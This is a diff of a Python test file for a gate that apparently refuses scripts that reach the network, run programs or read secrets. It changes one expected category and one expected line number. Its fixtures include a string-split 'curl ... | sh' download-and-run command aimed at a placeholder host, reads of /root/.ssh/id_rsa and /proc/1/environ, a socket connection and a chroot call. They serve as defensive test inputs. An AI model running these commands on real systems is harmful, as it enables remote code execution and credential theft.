@@ -178,7 +178,7 @@ def test_a_write_outside_of_its_folder_names_the_folder_that_it_has(judge: Judge
 
 QUIET = {
     "socket": ("suites.denied-network", "import asyncio\n    asyncio.run(asyncio.open_connection('192.0.2.1', 9))"),
-    "program": ("suites.denied-program", "import os\n    os.system('cu' + 'rl http://x.example | s' + 'h')"),
+    "program": ("suites.denied-network", "import os\n    os.system('cu' + 'rl http://x.example | s' + 'h')"),
     "secret": ("suites.denied-secret", "open('/ro' + 'ot/.s' + 'sh/id_rsa').read()"),
     "environ": ("suites.denied-kernel", "open(f'/proc/{1}/envi' + 'ron').read()"),
     "mount": ("suites.denied-kernel", "import os\n    os.chroot('/app/data')"),
@@ -246,7 +246,7 @@ def test_the_whole_gate_gives_one_report(require: Require, tmp_path: Path, monke
     assert not refused.accepted
     assert not refused.security
     (reason,) = refused.reasons
-    assert reason.startswith("scripts/main.py:3: it imports ctypes")
+    assert reason.startswith("scripts/main.py:4: it imports ctypes")
     assert "needs-packages" in reason
 
 
